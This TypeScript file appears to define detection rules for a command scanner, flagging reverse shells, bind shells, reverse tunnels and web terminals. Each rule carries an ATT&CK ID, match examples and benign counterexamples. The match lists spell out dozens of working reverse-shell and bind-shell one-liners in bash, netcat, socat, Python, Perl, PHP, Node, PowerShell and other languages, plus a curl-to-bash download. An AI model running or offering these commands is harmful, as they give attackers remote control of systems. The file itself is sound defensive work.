import { define } from './rule.ts'
import type { CommandRule, Given } from './rule.ts'

type Short = readonly [id: string, title: Given['title'], match: readonly string[], clean: readonly string[]]

const ATTACK = ['T1059.004', 'T1071']

const REVERSE: readonly Short[] = [
  [
    'CMD-001',
    ['A reverse shell over /dev/tcp', '经 /dev/tcp 的反弹 shell'],
    [
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      'sh -i >& /dev/udp/203.0.113.7/53 0>&1',
      '(sh)0>/dev/tcp/203.0.113.7/1',
      "ksh -c 'ksh >/dev/tcp/203.0.113.7/4444 2>&1 <&1'",
      'exec /bin/sh 0</dev/tcp/203.0.113.7/4242 1>&0 2>&0',
    ],
    ["timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'", 'bash -i', 'echo > /dev/tcp/localhost/5432 && echo up'],
  ],
  [
    'CMD-002',
    ['A shell whose descriptors are a connection', '描述符绑定到网络连接的 shell'],
    [
      'exec 5<>/dev/tcp/203.0.113.7/9; sh <&5 >&5 2>&5',
      '0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196',
      'zmodload zsh/net/tcp && ztcp 203.0.113.7 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY',
    ],
    ["exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", 'sh script.sh 2>&1'],
  ],
  [
    'CMD-003',
    ['netcat runs a shell for a connection', 'netcat 反弹 shell'],
    [
      'nc -e /bin/sh 203.0.113.7 4444',
      'nc -c bash 203.0.113.7 4444',
      "ncat --ssl 203.0.113.7 4444 --sh-exec '/bin/bash -i'",
      'busybox nc 203.0.113.7 4444 -e sh',
    ],
    ['nc -z db 5432', 'nc -w 1 -vz 127.0.0.1 22', 'rsync -e ssh a b:c', 'nc -l -p 80 < index.html'],
  ],
  [
    'CMD-004',
    ['A shell behind netcat and a named pipe', 'netcat 与命名管道反弹 shell'],
    [
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f',
      'mknod /var/tmp/b p; /bin/sh 0</var/tmp/b | nc 203.0.113.7 4444 1>/var/tmp/b',
    ],
    ['mkfifo /tmp/log; cat /tmp/log | nc logs.example.com 514', 'sh report.sh | nc logs.example.com 514'],
  ],
  [
    'CMD-005',
    ['socat connects a shell', 'socat 反弹 shell'],
    [
      "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444",
      'socat TCP:203.0.113.7:9 EXEC:/bin/sh',
    ],
    ['socat TCP-LISTEN:80,fork TCP:web:8080', 'socat - UNIX-CONNECT:/run/haproxy.sock'],
  ],
  [
    'CMD-006',
    ['A shell behind openssl s_client', 'openssl s_client 反弹 shell'],
    ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s; rm /tmp/s'],
    ['openssl s_client -connect example.com:443 < /dev/null | openssl x509 -noout -enddate'],
  ],
  [
    'CMD-007',
    ['A shell behind telnet', 'telnet 反弹 shell'],
    [
      'telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445',
      'TF=$(mktemp -u);mkfifo $TF && telnet 203.0.113.7 4444 0<$TF | sh 1>$TF; sh -i <$TF | telnet a 1 >$TF',
    ],
    ['telnet localhost 25'],
  ],
  [
    'CMD-008',
    ['A terminal is shown on the display of another machine', '终端显示到远程 X 服务器'],
    ['xterm -display 203.0.113.7:1'],
    ['xterm -display :0', 'xterm -e top'],
  ],
  [
    'CMD-009',
    ['What comes out of a connection is run', '执行来自网络连接的命令'],
    [
      'exec 5<>/dev/tcp/203.0.113.7/9; cat <&5 | while read l; do $l 2>&5 >&5; done',
      'nc 203.0.113.7 4444 | sh',
      'curl -s telnet://203.0.113.7:4444 | nc 203.0.113.7 1 | bash',
      'while read l; do eval "$l"; done < /dev/tcp/203.0.113.7/9',
    ],
    ['nc -l 80 | tee log', 'cat list | while read l; do $l; done'],
  ],
  [
    'CMD-010',
    ['A reverse shell in Python', 'Python 反弹 shell'],
    [
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",9));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`,
      `python -c "import socket,subprocess;s=socket.socket();s.connect(('203.0.113.7',9));subprocess.call(['/bin/sh','-i'],stdin=s.fileno())"`,
    ],
    ['python3 -c "import socket; socket.create_connection((\'db\', 5432))"'],
  ],
  [
    'CMD-011',
    ['A reverse shell in Perl', 'Perl 反弹 shell'],
    [
      `perl -e 'use Socket;$i="203.0.113.7";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'`,
      `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    ],
    [`perl -MSocket -e 'print inet_ntoa(inet_aton("localhost"))'`],
  ],
  [
    'CMD-012',
    ['A reverse shell in Ruby', 'Ruby 反弹 shell'],
    [`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`],
    [`ruby -rsocket -e 'puts Socket.gethostname'`],
  ],
  [
    'CMD-013',
    ['A reverse shell in PHP', 'PHP 反弹 shell'],
    [`php -r '$s=fsockopen("203.0.113.7",1234);exec("/bin/sh -i <&3 >&3 2>&3");'`],
    [`php -r 'var_dump(fsockopen("db", 3306));'`],
  ],
  [
    'CMD-014',
    ['A reverse shell in Lua', 'Lua 反弹 shell'],
    [
      `lua -e "require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','1234');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
    ],
    [`lua -e "print(require('socket')._VERSION)"`],
  ],
  [
    'CMD-015',
    ['A reverse shell in awk', 'awk 反弹 shell'],
    [
      `gawk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4242"; while(42) { do{ printf "> " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
    ],
    [`awk '{print $1}' /etc/passwd`],
  ],
  [
    'CMD-016',
    ['A reverse shell in Node.js', 'Node.js 反弹 shell'],
    [
      `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4242,"203.0.113.7",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})();'`,
    ],
    [`node -e 'require("net").connect(5432, "db").on("connect", () => process.exit(0))'`],
  ],
  [
    'CMD-017',
    ['A reverse shell in Tcl', 'Tcl 反弹 shell'],
    [
      `echo 'set s [socket 203.0.113.7 4242];while 42 { puts -nonewline $s "shell>";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} {puts $s $r};flush $s;}; close $s;' | tclsh`,
    ],
    [`echo 'puts [info patchlevel]' | tclsh`],
  ],
  [
    'CMD-018',
    ['A reverse shell in Go', 'Go 反弹 shell'],
    [
      `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","203.0.113.7:4242");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go`,
    ],
    ['go run ./cmd/server'],
  ],
  [
    'CMD-019',
    ['A reverse shell in Java or Groovy', 'Java/Groovy 反弹 shell'],
    [
      `groovy -e 'String cmd="/bin/bash";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket("203.0.113.7",4242);InputStream pi=p.getInputStream()'`,
    ],
    [`groovy -e 'println "hello"'`],
  ],
  [
    'CMD-020',
    ['A reverse shell in another language', '其他语言的反弹 shell'],
    [
      `echo "import 'dart:io'; main(){ Socket.connect('203.0.113.7', 4242).then((s){ s.listen((d) { Process.start('/bin/sh', []); }); }); }" > /tmp/a.dart && dart /tmp/a.dart`,
      `pwsh -c '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.7",4242);$s = $c.GetStream();iex $d'`,
    ],
    ['dart pub get', `pwsh -c 'Get-Date'`],
  ],
  [
    'CMD-021',
    ['A tool of the global socket network', '使用 gsocket 工具'],
    ['gs-netcat -s secret -l -i', 'bash -c "$(curl -fsSL https://gsocket.io/y)"'],
    ['netcat -z db 5432'],
  ],
]

const BIND: readonly Short[] = [
  [
    'CMD-030',
    ['netcat listens and runs a shell', 'netcat 绑定 shell'],
    ['nc -lvp 4444 -e /bin/sh', 'ncat -l 4444 --exec /bin/bash', 'nc -lvpe 4444 /bin/bash'],
    ['nc -l 4444 > file'],
  ],
  [
    'CMD-031',
    ['socat listens and runs a shell', 'socat 绑定 shell'],
    ['socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr'],
    ['socat TCP-LISTEN:4444,fork EXEC:/usr/bin/handler'],
  ],
  [
    'CMD-032',
    ['A program listens and hands out a shell', '程序监听并提供 shell'],
    [
      `python3 -c 'import socket,os;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.system("/bin/sh -i")'`,
      `ruby -rsocket -e 's=TCPServer.new(4444);c=s.accept;exec sprintf("/bin/sh -i <&%d >&%d",c,c) if c.gets'`,
    ],
    ['python3 -m http.server 8080'],
  ],
  [
    'CMD-033',
    ['A shell behind a listening netcat and a named pipe', 'netcat 监听与命名管道绑定 shell'],
    ['mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc -l 203.0.113.7 4444 >/tmp/f'],
    ['tar c . | nc -l 4444'],
  ],
  [
    'CMD-034',
    ['A server hands out a shell without a login', '无需登录即提供 shell 的服务'],
    ['telnetd -p 4444 -l /bin/sh', 'tcpserver 0 4444 /bin/sh'],
    ['telnetd -l /bin/login', 'in.telnetd -debug 23'],
  ],
  [
    'CMD-035',
    ['A terminal is served over the web', '通过 Web 提供终端'],
    ['ttyd -p 8080 bash', 'gotty -w /bin/sh'],
    ['ttyd --version'],
  ],
]

export const SHELL_RULES: readonly CommandRule[] = [
  ...REVERSE.map(([id, title, match, clean]) =>
    define({
      id,
      title,
      kind: 'reverse-shell',
      severity: 'critical',
      confidence: 'high',
      attack: ATTACK,
      match,
      clean,
    }),
  ),
  define({
    id: 'CMD-022',
    title: ['A port is forwarded from elsewhere to here', '建立反向隧道'],
    kind: 'tunnel',
    severity: 'medium',
    confidence: 'low',
    attack: ['T1572'],
    match: ['ssh -fNR 2222:localhost:22 user@203.0.113.7', 'chisel client 203.0.113.7:8080 R:socks'],
    clean: ['ssh -L 5432:db:5432 bastion', 'ssh host rm -Rf build'],
  }),
  ...BIND.map(([id, title, match, clean]) =>
    define({
      id,
      title,
      kind: 'bind-shell',
      severity: id === 'CMD-035' ? 'high' : 'critical',
      confidence: id === 'CMD-035' ? 'medium' : 'high',
      attack: ATTACK,
      match,
      clean,
    }),
  ),
]
